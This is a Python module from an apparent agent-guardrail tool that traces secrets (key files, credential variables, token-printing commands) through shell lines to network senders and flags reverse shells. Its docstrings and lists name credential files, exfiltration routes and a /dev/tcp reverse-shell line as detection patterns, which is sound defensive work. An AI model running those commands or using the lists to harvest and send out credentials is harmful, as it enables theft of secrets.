"""Secrets: where they live (files, variables, commands that print them), where they go (the model's context, the
network), and the flows between them over one command line or a file that runs later.

A line is read as data flow, not as spellings: each simple command may *read* a secret (a secret file among its
operands or on its stdin, a variable named like a credential, a command that prints a token), may *carry* what it
got on stdin to its stdout (filters), may *store* it in a file (redirects, copies, archives: that file is a secret
from then on) and may *send* it out (HTTP bodies and uploads, sockets, remote copies, DNS names, buckets, gists, a
pushed commit). Exfiltration is a secret reaching a sender; a secret read into the context is one whose output
reaches the terminal.
"""

from __future__ import annotations

import fnmatch
import posixpath
import re

from guardrail.base.text import LazyRegex
from guardrail.base.vocab import (CLOUD_COPIERS, CONTENT_READERS, FILE_COPIERS, HTTP_SENDERS, INLINE_FLAGS, INTERPRETERS,
                                  NAME_RESOLVERS, PATTERN_FIRST, REMOTE_COPIERS, STREAM_SENDERS, is_python)
from guardrail.model import EvalContext, SimpleCommand
TYPE_CHECKING = False  # `typing` costs ~40M instructions to import: annotations only (lazy)
if TYPE_CHECKING:
    from typing import Any, Iterable, Mapping

# --------------------------------------------------------------------------- where secrets live

# Template files that name the variables without their values.
_EXAMPLE_WORDS = frozenset({"example", "examples", "sample", "samples", "template", "tmpl", "tpl", "dist", "default",
                            "defaults", "schema", "spec", "placeholder", "skeleton"})
# Secret files by base name (fnmatch), and by the tail of their path.
_SECRET_NAMES = (".env", ".env.*", "*.env", ".envrc", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "id_ecdsa_sk",
                 "id_ed25519_sk", "*.pem", "*.key", "*.p12", "*.pfx", "*.jks", "*.keystore", ".netrc", "_netrc",
                 ".npmrc", ".pypirc", ".git-credentials", ".pgpass", ".my.cnf", "*service-account*.json",
                 "*service_account*.json", "credentials.json", "client_secret*.json", "secrets.yml", "secrets.yaml",
                 "secrets.json", "secrets.toml", ".secrets", "*.tfvars", "vault-token", ".vault-token")
_SECRET_TAILS = (".aws/credentials", ".kube/config", ".docker/config.json", ".config/gh/hosts.yml",
                 ".config/gcloud/credentials.db", ".config/gcloud/access_tokens.db",
                 ".config/gcloud/application_default_credentials.json", ".azure/accesstokens.json",
                 ".azure/msal_token_cache.json", ".terraform.d/credentials.tfrc.json", ".cargo/credentials.toml",
                 ".cargo/credentials", ".gem/credentials", ".config/hub", ".composer/auth.json")
# Folders that hold keys: copying or packing one (not listing it) moves its secrets.
_SECRET_DIRS = (".ssh", ".aws", ".gnupg", ".kube", ".docker", ".config/gcloud", ".azure", ".password-store")
_NAMES_RX = LazyRegex("|".join(f"(?:{fnmatch.translate(g)})" for g in _SECRET_NAMES))
# Words of a variable's name that say it holds a credential (`OPENAI_API_KEY`, `GITHUB_TOKEN`, `DB_PASSWORD`).
_SECRET_VAR_WORDS = frozenset({"KEY", "APIKEY", "TOKEN", "SECRET", "SECRETS", "PASSWORD", "PASSWD", "PASS", "PW",
                               "CREDENTIAL", "CREDENTIALS", "PAT", "PRIVATE", "AUTH", "COOKIE", "SESSION", "DSN"})
_NOT_SECRET_VARS = frozenset({"PWD", "OLDPWD", "KEYMAP", "SSH_AUTH_SOCK", "GPG_TTY", "PASSWORD_STORE_DIR",
                              "AUTH_URL", "KEY_ID"})
_EXPANSION = LazyRegex(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")


def secret_path(path: str) -> bool:
    """Whether a path names a file that holds credentials (not a template of one, not a public key)."""
    if not path or path.startswith("-") or "://" in path:
        return False
    p = path.strip("'\"").rstrip("/")
    base = p.rsplit("/", 1)[-1]
    low = base.lower()
    if low.endswith((".pub", ".crt", ".cert", ".md", ".py", ".ts", ".js", ".go", ".rs", ".sh")):
        return False
    tail = p.lower()
    if any(tail == t or tail.endswith("/" + t) for t in _SECRET_TAILS):
        return True  # the tools' own credential files (`application_default_credentials.json`)
    if any(w in _EXAMPLE_WORDS for w in re.split(r"[._-]", low)):
        return False
    if _NAMES_RX.fullmatch(base) or _NAMES_RX.fullmatch(low):
        if low.endswith((".pem", ".key")) and any(w in low for w in ("cert", "chain", "public", "pub")):
            return False
        return True
    return "/.ssh/" in "/" + tail and low.startswith("id_")


def secret_dir(path: str) -> bool:
    """A folder that holds keys (for copies and archives, which take whole folders)."""
    p = path.strip("'\"").rstrip("/")
    return any(p == d or p.endswith("/" + d) or p == "~/" + d for d in _SECRET_DIRS)


def _glob_secret(word: str) -> bool:
    """`cat .en?`, `cat .e*`: a glob bash expands to a secret file's name (checked against the usual names)."""
    if not any(c in word for c in "*?["):
        return False
    head, _, base = word.rpartition("/")
    if len(re.sub(r"\[[^]]*\]|[*?]", "", base)) < 2:
        return False  # `*`, `src/*`: any file at all, not a reach for a secret's name
    for name in (".env", ".env.local", ".env.production", ".env.development", "id_rsa", "id_ed25519", "credentials",
                 ".npmrc", ".netrc", ".git-credentials", "config"):
        if fnmatch.fnmatchcase(name, base) and secret_path((head + "/" if head else "") + name):
            return True
    return False


def is_secret_word(word: str) -> bool:
    return secret_path(word) or _glob_secret(word)


def secret_var(name: str) -> bool:
    """A variable whose name says it holds a credential."""
    up = name.upper()
    if up in _NOT_SECRET_VARS or up.endswith(("_FILE", "_PATH", "_DIR", "_ID", "_URL_PATH")):
        return up in ("DATABASE_URL",)
    if up in ("DATABASE_URL", "REDIS_URL", "MONGODB_URI", "MONGO_URL", "AMQP_URL"):
        return True
    return any(w in _SECRET_VAR_WORDS for w in up.split("_"))


def secret_vars_in(text: str) -> list[str]:
    return [m.group(1) for m in _EXPANSION.finditer(text) if secret_var(m.group(1))]


# --------------------------------------------------------------------------- commands that print secrets

# Whole-environment dumps: every exported token leaves with them, but printing them is everyday debugging.
_DUMPS = ("printenv", "env", "set", "export", "declare", "typeset")
_LITERAL = "a credential written on the line"
_CREDENTIAL_PATTERN = LazyRegex(r"key|token|secret|pass|cred|auth", re.I)


def _printer(cmd: SimpleCommand) -> str | None:
    """A command whose output is a secret by what it is (not by the file it reads): a token printer, a secret
    store's read, an environment dump."""
    name, a = cmd.name, [x for x in cmd.args if not x.startswith("-")]
    flags = [x for x in cmd.args if x.startswith("-")]
    if name == "gh" and a[:2] == ["auth", "token"] or name == "glab" and a[:2] == ["auth", "token"]:
        return f"{name} auth token"
    if name == "gcloud" and a[:1] == ["auth"] and any(w.startswith("print-") for w in a[1:3]):
        return "gcloud auth " + a[1]
    if name == "gcloud" and a[:3] == ["secrets", "versions", "access"]:
        return "gcloud secrets versions access"
    if name in ("aws", "awslocal"):
        if a[:2] == ["secretsmanager", "get-secret-value"] or a[:2] in (["ssm", "get-parameter"], ["ssm", "get-parameters"]) \
                and "--with-decryption" in flags or a[:2] == ["configure", "export-credentials"] \
                or a[:2] == ["configure", "get"] and any(secret_var(w) for w in a[2:3]) \
                or a[:2] in (["ecr", "get-login-password"], ["sts", "get-session-token"]):
            return f"aws {' '.join(a[:2])}"
    if name in ("kubectl", "oc", "kubecolor") and a[:1] == ["get"] and len(a) >= 2 and \
            a[1].split("/")[0] in ("secret", "secrets") and (len(a) >= 3 or "/" in a[1]) and \
            any(f.startswith(("-o", "--output")) for f in flags):
        return f"{name} get secret ... -o"
    if name == "vault" and (a[:1] == ["read"] or a[:2] in (["kv", "get"], ["kv", "read"]) or a[:2] == ["print", "token"]):
        return "vault " + " ".join(a[:2])
    if name == "op" and (a[:1] == ["read"] or a[:2] == ["item", "get"] and "--reveal" in flags):
        return "op " + a[0]
    if name == "pass" and not ({"-c", "--clip", "-q", "--qrcode"} & set(flags)) and \
            (a[:1] == ["show"] or (a and a[0] not in ("ls", "list", "find", "search", "grep", "init", "git", "insert",
                                                      "generate", "rm", "mv", "cp", "edit", "otp", "help", "version"))):
        return "pass show"  # `-c` copies to the clipboard; `otp` codes expire in seconds
    if name == "security" and a[:1] in (["find-generic-password"], ["find-internet-password"]) and "-w" in flags:
        return "security " + a[0] + " -w"
    if name == "az" and a[:3] == ["keyvault", "secret", "show"]:
        return "az keyvault secret show"
    if name == "doppler" and a[:1] == ["secrets"] and (len(a) == 1 or a[1] in ("get", "download")) or \
            name == "heroku" and a[:1] in (["config"], ["config:get"]):
        return name + " " + " ".join(a[:2])
    if name == "git" and a[:2] == ["credential", "fill"]:
        return "git credential fill"
    if name == "sops" and ("-d" in flags or "--decrypt" in flags or a[:1] == ["decrypt"]):
        return "sops --decrypt"
    # environment dumps: every exported token at once
    if name == "printenv" and (not a or any(secret_var(w) for w in a)):
        return f"${a[0]}" if a else "printenv"
    if name == "env" and not cmd.args:
        return "env"
    if name in ("set", "export", "declare", "typeset") and (not cmd.args or cmd.args[0] in ("-p", "-x", "-px", "-xp")):
        return name + (" " + cmd.args[0] if cmd.args else "")
    return None


_NETWORK_CODE = LazyRegex(r"\b(requests\.(post|put|get|patch)|urllib|urlopen|http\.client|httpx|socket\.|aiohttp|"
                          r"fetch\s*\(|https?\.(request|get)|axios|net\.connect|XMLHttpRequest|Net::HTTP|open-uri|"
                          r"LWP::|HTTP::Tiny|IO::Socket|curl_exec|file_get_contents\s*\(\s*['\"]https?:|dns\.|"
                          r"smtplib|ftplib|paramiko|getaddrinfo|gethostbyname)|require\(\s*['\"](https?|net|dns|dgram|tls)['\"]\s*\)")
_SECRET_IN_CODE = LazyRegex(r"['\"`/(](\.env(\.[\w.-]+)?|\.aws/credentials|\.ssh/id_\w+|id_rsa|id_ed25519|"
                            r"\.kube/config|\.npmrc|\.netrc|\.git-credentials|\.pypirc)['\"`)]|"
                            r"\b(os\.environ|process\.env|getenv|ENV\[|\$ENV\{)|"
                            r"require\(\s*['\"]dotenv['\"]\s*\)|\b(load_dotenv|dotenv_values|Dotenv\.load)\b")


def _inline_code(cmd: SimpleCommand) -> str | None:
    """The code an interpreter runs from its options (`python -c`, `node -e`) or from stdin (`python3 - <<EOF`)."""
    flags = INLINE_FLAGS.get(cmd.name) or (INLINE_FLAGS["python"] if is_python(cmd.name) else ())
    args = cmd.args
    for i, a in enumerate(args[:-1]):
        if a in flags or (len(a) > 2 and a[0] == "-" and a[1] != "-" and "-" + a[-1] in flags):
            return args[i + 1]  # `-e CODE`, and bundled `perl -ne CODE`
    if cmd.stdin_text and all(a == "-" or a.startswith("-") for a in args):
        return cmd.stdin_text
    return None


def _code_reads(code: str) -> str | None:
    """Inline code that reads a secret file, a secret variable or the whole environment."""
    for m in _SECRET_IN_CODE.finditer(code):
        word = m.group(0)
        if "dotenv" in word.lower():
            return ".env (through dotenv) in inline code"
        if word.startswith(("os.environ", "process.env", "getenv", "ENV[", "$ENV{")):
            rest = code[m.end():m.end() + 60]
            name = re.match(r"""\W*['"]?([A-Za-z_][A-Za-z0-9_]*)""", rest)
            if name and secret_var(name.group(1)) or re.match(r"\s*(\)|,|;|$|\.(items|copy)|\s*\))", rest):
                return f"{word.strip(chr(39) + chr(34) + '`')} in inline code"
            continue
        if secret_path(word.strip("'\"`/()")) or "/" in word:
            return f"{word.strip(chr(39) + chr(34) + '`()')} in inline code"
    return None


# --------------------------------------------------------------------------- the flow over a line

class Flow:
    """What one pass over a line found: exfiltrations (secret -> sender) and secrets printed to the terminal."""

    __slots__ = ("sent", "shown")

    def __init__(self) -> None:
        self.sent: list[str] = []
        self.shown: list[str] = []


def _files_in(cmd: SimpleCommand) -> list[str]:
    """The operands a content reader reads (not the pattern or program of grep/sed/awk)."""
    from guardrail.rules import positionals

    pos = positionals(cmd)
    if cmd.name in PATTERN_FIRST and not any(a in ("-e", "-f", "--regexp", "--file") or a.startswith(("-e", "-f"))
                                             for a in cmd.args if a.startswith("-") and not a.startswith("--")):
        pos = pos[1:]
    if cmd.name == "dd":
        pos = [a[3:] for a in cmd.args if a.startswith("if=")]
    return pos


def _stdout_to_file(cmd: SimpleCommand) -> list[str]:
    return [r.target for r in cmd.redirects if r.op in (">", ">>", ">|", "&>", "&>>", "1>") and
            not r.target.startswith("/dev/")]


# Programs whose stdin a sender may forward (checked for credential literals only for these).
SENDS_STDIN = STREAM_SENDERS | HTTP_SENDERS | frozenset({"gh", "glab", "pastebinit", "aws", "gsutil", "rclone"})
DATA = "\0"  # marks a literal sent as a request body or form value (not a URL)


def _credential_literal(text: str) -> bool:
    """Text that holds a credential in a known format (`ghp_...`, `sk_live_...`, `AKIA...`, `password=...`)."""
    from guardrail.redact import redact_text

    return redact_text(text) != text


def _stdout_hidden(cmd: SimpleCommand) -> bool:
    """Its output goes to a file or /dev/null, not the terminal."""
    return any(r.op in (">", ">>", ">|", "&>", "&>>", "1>") and r.target not in ("/dev/stdout", "/dev/tty", "/dev/stderr")
               for r in cmd.redirects)


def _curl_payload(cmd: SimpleCommand) -> tuple[list[str], bool, list[str]]:
    """(files it sends, whether it sends stdin, literal values it sends: data, form values and URLs)."""
    files: list[str] = []
    literals: list[str] = []
    stdin = False
    args = cmd.args
    data_opts = ("-d", "--data", "--data-ascii", "--data-binary", "--data-raw", "--data-urlencode", "--json",
                 "--post-data", "--body-data", "--post-file", "--body-file")
    form_opts = ("-F", "--form", "--form-string")
    upload_opts = ("-T", "--upload-file")
    skip_value = ("-H", "--header", "-u", "--user", "-o", "--output", "-X", "--request", "-A", "--user-agent",
                  "-e", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "-w", "--write-out", "--oauth2-bearer",
                  "-m", "--max-time", "--connect-timeout", "--retry", "-K", "--config", "--cacert", "--cert",
                  "--key", "-E", "-O", "--output-dir", "--proxy", "-x", "--resolve", "-r", "--range")
    i = 0
    while i < len(args):
        a = args[i]
        opt, val = a, None
        if a.startswith("--") and "=" in a:
            opt, val = a.split("=", 1)
        elif a[:2] in ("-d", "-F", "-T") and len(a) > 2:
            opt, val = a[:2], a[2:]
        if opt in data_opts + form_opts + upload_opts:
            if val is None:
                i += 1
                val = args[i] if i < len(args) else ""
            if opt in ("--post-file", "--body-file") or opt in upload_opts:
                if val in ("-", "."):
                    stdin = True
                else:
                    files.append(val)
            elif opt in form_opts:
                v = val.split("=", 1)[-1]
                if v[:1] in ("@", "<"):
                    f = v[1:].split(";", 1)[0]
                    stdin = stdin or f == "-"
                    files.append(f)
                else:
                    literals.append(DATA + v)
            elif val.startswith("@"):
                stdin = stdin or val == "@-"
                files.append(val[1:])
            else:
                literals.append(DATA + val)
        elif a in skip_value:
            i += 1
        elif not a.startswith("-"):
            literals.append(a)  # a URL (or httpie's `key=value` / `@file` items)
            if cmd.name not in ("curl", "wget", "wget2") and a.startswith("@"):
                files.append(a[1:])
            elif cmd.name not in ("curl", "wget", "wget2") and "=@" in a:
                files.append(a.split("=@", 1)[1])
        i += 1
    return files, stdin, literals


def _remote(word: str) -> bool:
    """scp/rsync's `host:path`, `user@host:path`, `rsync://`; not a local path with a colon after a slash."""
    if word.startswith(("/", "./", "../", "~")) and "://" not in word:
        return False
    return bool(re.match(r"^([\w.-]+@)?[\w.-]+::?", word)) or word.startswith("rsync://")


def _bucket(word: str) -> bool:
    return word.startswith(("s3://", "gs://", "az://", "r2://")) or bool(re.match(r"^[\w-]+:", word)) and "/" not in word.split(":", 1)[0]


def analyse(commands: Iterable[SimpleCommand], ctx: EvalContext) -> Flow:
    """One pass over the commands in line order (pipelines left to right, `$(...)` before the command it feeds)."""
    flow = Flow()
    tainted_files: dict[str, str] = {}  # file written on the line -> the secret it holds
    prev: SimpleCommand | None = None
    prev_out: str | None = None  # the secret the previous command wrote to its stdout
    prev_shown = -1  # index in flow.shown of the previous command's terminal output (undone when piped on)
    subst: str | None = None  # the secret a `$(...)` on the line printed
    added: list[tuple[str, SimpleCommand]] = []  # secret files `git add`-ed on the line

    def secret_of(word: str) -> str | None:
        if is_secret_word(word):
            return word
        w = ctx.resolve(word) if word and not word.startswith("-") else word
        return tainted_files.get(w) or tainted_files.get(word)

    for cmd in commands:
        name = cmd.name
        piped = cmd.stdin_from is not None and prev is not None and cmd.stdin_from == prev.name
        if piped and prev_shown >= 0:
            flow.shown.pop(prev_shown)  # the output went on down the pipe, not to the terminal
        stdin: str | None = prev_out if piped else None
        if cmd.stdin_file and not piped:
            stdin = secret_of(cmd.stdin_file)
        elif cmd.stdin_text and not stdin and name in SENDS_STDIN:
            # `echo ghp_... | nc`, a here-string or heredoc: the model hands the text to the command itself
            vs = secret_vars_in(cmd.stdin_text)
            stdin = ("$" + vs[0]) if vs else (_LITERAL if _credential_literal(cmd.stdin_text) else None)
        in_subst = bool(cmd.via) and cmd.via[-1] == "$()"
        words_text = " ".join(cmd.argv[1:])
        arg_secret: str | None = None
        if subst and not in_subst and ("$(" in words_text or "`" in words_text or "xargs" in cmd.via):
            arg_secret, subst = subst, None
        if "xargs" in cmd.via and stdin:
            arg_secret = arg_secret or stdin  # xargs turns its stdin into arguments
        vars_ = secret_vars_in(words_text) if "$" in words_text else []

        # what this command reads or prints
        out: str | None = None
        printed = _printer(cmd)
        code = _inline_code(cmd) if (name in INTERPRETERS or is_python(name)) else None
        if printed:
            out = printed
        elif name in CONTENT_READERS:
            files = [f for f in _files_in(cmd) if secret_of(f)]
            if files:
                out = secret_of(files[0]) or files[0]
            elif stdin:
                out = stdin
                if stdin.startswith(_DUMPS) and name in PATTERN_FIRST:
                    from guardrail.rules import positionals

                    pattern = (positionals(cmd) or [""])[0]
                    if _CREDENTIAL_PATTERN.search(pattern):
                        out = f"the {stdin} output filtered for `{pattern}`"  # `env | grep -i token`
        elif name in ("echo", "printf", "print") and vars_:
            out = "$" + vars_[0]
        elif name in ("echo", "printf") and cmd.args and _credential_literal(" ".join(cmd.args)):
            out = _LITERAL  # sent on if piped to a sender; not shown (the agent wrote it)
        elif code is not None:
            out = _code_reads(code)
            if out is None and any(f in cmd.args for f in ("-n", "-p", "-ne", "-pe", "-lne", "-nle")):
                # `perl -ne print .env`: the code runs over the operand files' lines
                out = next((w for w in cmd.args if secret_of(w)), None)
        elif stdin and name in ("xargs", "while", "cat"):
            out = stdin
        elif name in _CODECS and (stdin or any(a in ("-c", "--stdout", "-d", "--decompress") for a in cmd.args)):
            # `cat .env | gzip | base64`, `gzip -c .env`: compressors and ciphers pass the text on, transformed
            out = stdin or next((secret_of(f) for f in cmd.args if secret_of(f)), None)
        elif name == "git":
            out = _git_reads(cmd, secret_of)
        elif name == "find":
            out = _find_reads(cmd, secret_of)
        if arg_secret and name in ("echo", "printf"):
            out = out or arg_secret

        # copies and archives: the destination holds the secret
        if name in FILE_COPIERS:
            from guardrail.rules import positionals

            pos = positionals(cmd)
            src = next((p for p in pos if secret_of(p) or secret_dir(p)), None)
            if src is not None:
                for p in pos:
                    if p != src and not _remote(p):
                        tainted_files[ctx.resolve(p)] = secret_of(src) or src
                if name in ("tar", "gtar", "bsdtar", "base64", "gzip") and ("-" in cmd.args or not _stdout_to_file(cmd)
                                                                         and not any("f" in a for a in cmd.args[:1])):
                    out = out or src  # the archive or encoding goes to stdout (`tar czf - ~/.ssh`, `tar cz .env`)
        for target in _stdout_to_file(cmd):
            if out:
                tainted_files[ctx.resolve(target)] = out

        # where it sends
        sent = _sends(cmd, stdin, arg_secret, vars_, secret_of, code, out)
        if sent:
            flow.sent.append(sent)
        if name == "git":
            a = [x for x in cmd.args if not x.startswith("-")]
            if a[:1] == ["add"]:
                added += [(f, cmd) for f in a[1:] if secret_of(f)]
            elif a[:1] == ["push"] and added:
                flow.sent.append(f"`git add {added[0][0]}` then `git push` (the secret file is published with the commit)")

        shown = out if (out and not _stdout_hidden(cmd) and not in_subst and not sent
                        and not out.startswith(_DUMPS) and out != _LITERAL) else None
        if in_subst and out:
            subst = out
        prev_shown = -1
        if shown:
            flow.shown.append(f"`{' '.join(cmd.argv)[:80]}` prints {shown}")
            prev_shown = len(flow.shown) - 1
        # the output a later pipe stage receives
        prev_out = out if out else (stdin if name in CONTENT_READERS or name in ("xargs", "tee") else None)
        prev = cmd
    return flow


def _sends(cmd: SimpleCommand, stdin: str | None, arg_secret: str | None, vars_: list[str], secret_of: Any,
           code: str | None, out: str | None) -> str | None:
    """The secret this command sends off the machine, described; None when it sends none."""
    name = cmd.name
    text = " ".join(cmd.argv)[:120]
    if name in HTTP_SENDERS:
        files, uses_stdin, literals = _curl_payload(cmd)
        for f in files:
            s = secret_of(f)
            if s:
                return f"`{text}` uploads {s}"
        if uses_stdin and stdin:
            return f"`{text}` sends {stdin} (piped in)"
        if name not in ("curl", "wget", "wget2") and stdin:
            return f"`{text}` sends {stdin} (piped in)"
        for lit in literals:
            v = secret_vars_in(lit)
            if v:
                return f"`{text}` sends ${v[0]}"
            if lit.startswith(DATA) and _credential_literal(lit[1:]):
                return f"`{text}` sends a credential written on the line"
        if arg_secret and any("$(" in lit or "`" in lit for lit in literals):
            return f"`{text}` sends {arg_secret} in its request"
        return None
    if name in STREAM_SENDERS:
        if name == "openssl" and not (cmd.args[:1] == ("s_client",) or cmd.args[:1] == ["s_client"]):
            return None
        if stdin:
            return f"`{text}` sends {stdin} to {('a remote shell' if name in ('ssh', 'autossh') else 'a socket')}"
        if name in ("socat", "mutt", "mail", "mailx"):
            for a in cmd.args:
                s = secret_of(a.split(":", 1)[-1]) or secret_of(a)
                if s:
                    return f"`{text}` sends {s}"
        return None
    if name in REMOTE_COPIERS:
        from guardrail.rules import positionals

        pos = positionals(cmd)
        if len(pos) >= 2 and _remote(pos[-1]):
            for p in pos[:-1]:
                s = secret_of(p) or (p if secret_dir(p) else None)
                if s and not _remote(p):
                    return f"`{text}` copies {s} to {pos[-1]}"
        return None
    if name in NAME_RESOLVERS:
        if arg_secret:
            return f"`{text}` looks up a name built from {arg_secret} (DNS carries it out)"
        if vars_:
            return f"`{text}` looks up a name built from ${vars_[0]}"
        return None
    if name in CLOUD_COPIERS:
        from guardrail.rules import positionals

        pos = positionals(cmd)
        words = [p for p in pos if p not in ("s3", "cp", "mv", "sync", "storage", "copy", "copyto", "move", "put",
                                             "blob", "upload", "moveto")]
        dests = [p for p in pos if _bucket(p)]
        if dests:
            for p in words:
                s = secret_of(p) or (p if secret_dir(p) else None)
                if s and p not in dests:
                    return f"`{text}` copies {s} to {dests[-1]}"
                if p == "-" and stdin:
                    return f"`{text}` copies {stdin} to {dests[-1]}"
        for i, a in enumerate(cmd.args[:-1]):
            if a in ("--file", "-f", "--body") and secret_of(cmd.args[i + 1]):
                return f"`{text}` uploads {cmd.args[i + 1]}"
        return None
    if name in ("gh", "glab"):
        a = [x for x in cmd.args if not x.startswith("-")]
        if a[:2] in (["gist", "create"], ["snippet", "create"], ["release", "upload"]):
            for f in a[2:]:
                s = secret_of(f)
                if s:
                    return f"`{text}` publishes {s}"
            if stdin and ("-" in a[2:] or len(a) == 2):
                return f"`{text}` publishes {stdin}"
        for i, x in enumerate(cmd.args[:-1]):
            if x in ("--body-file", "-F") and secret_of(cmd.args[i + 1]):
                return f"`{text}` publishes {cmd.args[i + 1]}"
        return None
    if name in ("pastebinit", "termbin", "ix", "sprunge", "0x0") and (stdin or any(secret_of(a) for a in cmd.args)):
        return f"`{text}` posts {stdin or 'a secret file'} to a paste service"
    if code is not None and _NETWORK_CODE.search(code):
        read = out or _code_reads(code)
        if read:
            return f"inline code sends {read.removesuffix(' in inline code')} over the network"
    return None


_CODECS = frozenset({"gzip", "bzip2", "xz", "zstd", "lz4", "brotli", "openssl", "gpg", "age", "rev", "zcat"})
_FIND_READ_ACTIONS = ("-exec", "-execdir", "-ok", "-okdir")


def _git_reads(cmd: SimpleCommand, secret_of: Any) -> str | None:
    """`git show REV:.env`, `git cat-file -p REV:.env`, `git diff --no-index /dev/null .env`: git prints the file."""
    a = [x for x in cmd.args if not x.startswith("-")]
    if a[:1] in (["show"], ["cat-file"]):
        for w in a[1:]:
            if ":" in w and secret_of(w.split(":", 1)[1]):
                return w.split(":", 1)[1]
    if a[:1] == ["diff"] and "--no-index" in cmd.args:
        return next((w for w in a[1:] if secret_of(w)), None)
    return None


def _find_reads(cmd: SimpleCommand, secret_of: Any) -> str | None:
    """`find . -name .env -exec cat {} \\;`: find hands the secret files it selects to a reader."""
    args = list(cmd.args)
    names = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-name", "-iname", "-path", "-wholename")]
    secret = next((n for n in names if secret_of(n) or secret_of(n.rsplit("/", 1)[-1])), None)
    if secret is None:
        return None
    for i, a in enumerate(args[:-1]):
        if a in _FIND_READ_ACTIONS and args[i + 1].rsplit("/", 1)[-1] in CONTENT_READERS:
            return secret
    return None


def _flow(ctx: EvalContext) -> Flow:
    flow = ctx.memo.get("secrets.flow")
    if flow is None:
        flow = ctx.memo["secrets.flow"] = analyse(getattr(ctx, "commands", ()) or (), ctx)
    return flow


# --------------------------------------------------------------------------- the checks

def secret_exfiltration(_line: Any, ctx: EvalContext, args: Mapping[str, Any]) -> list[str]:
    """A secret reaches a network sender on this line: through a pipe, a file the line wrote, `$(...)`, xargs,
    a variable named like a credential, or inline code that reads one and opens a connection."""
    return scrubbed(_flow(ctx).sent)


def scrubbed(found: list[str]) -> list[str]:
    """Descriptions quote commands; a credential written in one is not repeated in the reason."""
    if not found:
        return []
    from guardrail.redact import redact_text

    return [redact_text(f) for f in dict.fromkeys(found)]


def _mode(ctx: EvalContext) -> str:
    return str((ctx.config or {}).get("secrets_read") or "ask")


def secret_shown(_line: Any, ctx: EvalContext, args: Mapping[str, Any]) -> list[str]:
    """A secret printed to the terminal, which is the model's context: fires when `secrets_read` in the config
    is the rule's mode (`ask` by default, `deny`, or `off` for neither)."""
    if _mode(ctx) != args.get("mode", "ask"):
        return []
    return scrubbed(_flow(ctx).shown)


def secret_file_read(call: Any, ctx: EvalContext, args: Mapping[str, Any]) -> list[str]:
    """The Read tool (or Grep on a path) opening a secret file, under the rule's `secrets_read` mode."""
    if _mode(ctx) != args.get("mode", "ask"):
        return []
    ti = getattr(call, "tool_input", None) or {}
    path = ti.get("file_path") or ti.get("notebook_path") or ti.get("path") or ""
    if isinstance(path, str) and (secret_path(path) or _glob_secret(path)):
        return [posixpath.basename(path.rstrip("/")) if not path.startswith("~") else path]
    glob = ti.get("glob")
    if isinstance(glob, str) and isinstance(ti.get("pattern"), str) and (secret_path(glob) or _glob_secret(glob)):
        return [glob]
    return []


def shell_to_socket(cmd: SimpleCommand, ctx: EvalContext, args: Mapping[str, Any]) -> list[str]:
    """A shell whose input or output is a /dev/tcp or /dev/udp socket (`bash -i >& /dev/tcp/HOST/PORT 0>&1`)."""
    from guardrail.base.vocab import SHELLS

    if cmd.name not in SHELLS:
        return []
    return [r.target for r in cmd.redirects if r.target.startswith(("/dev/tcp/", "/dev/udp/"))]


def secret_in_request(call: Any, ctx: EvalContext, args: Mapping[str, Any]) -> list[str]:
    """A web tool's URL or query carrying a credential in a known format (`WebFetch https://x/?k=sk_live_...`): the
    request hands it to that host (and its logs) before any page comes back."""
    ti = getattr(call, "tool_input", None) or {}
    for field in ("url", "query", "prompt"):
        value = ti.get(field)
        if isinstance(value, str) and value and (_credential_literal(value) or
                                                 (field == "url" and secret_vars_in(value))):
            from guardrail.redact import redact_text

            return [f"{field}: {redact_text(value)[:160]}"]
    return []
